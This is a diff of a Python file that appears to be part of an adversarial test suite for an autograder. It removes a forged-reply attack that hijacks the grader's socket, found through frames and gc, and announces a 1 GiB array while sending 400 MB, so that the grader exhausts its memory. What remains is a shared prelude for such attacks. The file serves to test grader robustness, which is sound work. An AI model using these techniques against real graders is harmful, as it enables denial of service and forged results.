@@ -1,15 +1,8 @@
-"""One forged reply announcing a 1 GiB body (one float64 array of that size) and sending 400 MB of it,
-echoing the request's id; then returns normally. A grader that reads before it checks buffers it all."""
+"""Appended before each forged-reply attack in this folder: how student code finds the request it is
+answering and the channel the worker answers on, as a hostile submission would (frames and gc)."""
 import gc
-import json
 import socket
-import struct
 import sys
-
-import numpy as np
-
-ANNOUNCED = 1 << 30
-SENT = 400 << 20  # bounded: what a grader that reads the body before checking its size would hold
 
 
 def _request_id():
@@ -42,18 +35,3 @@ def _send_to_grader(*parts):
             for part in parts:
                 obj.sendall(part)
             return
-
-
-def conv_forward_naive(x, w, b, conv_param):
-    header = {"ok": True, "result_type": "builtins.tuple", "id": _request_id(), "output": "",
-              "values": {"d": {"result": {"t": [{"a": 0}, {"v": None}]}, "args": {"v": None}, "args_before": {"v": None}}},
-              "arrays": [["<f8", [ANNOUNCED // 8]]]}
-    head = json.dumps(header).encode()
-    chunk = bytes(1 << 20)
-    try:
-        _send_to_grader(struct.pack(">I", len(head)), head, struct.pack(">Q", ANNOUNCED))
-        for _ in range(SENT // len(chunk)):
-            _send_to_grader(chunk)
-    except OSError:
-        pass
-    return np.zeros(1), None
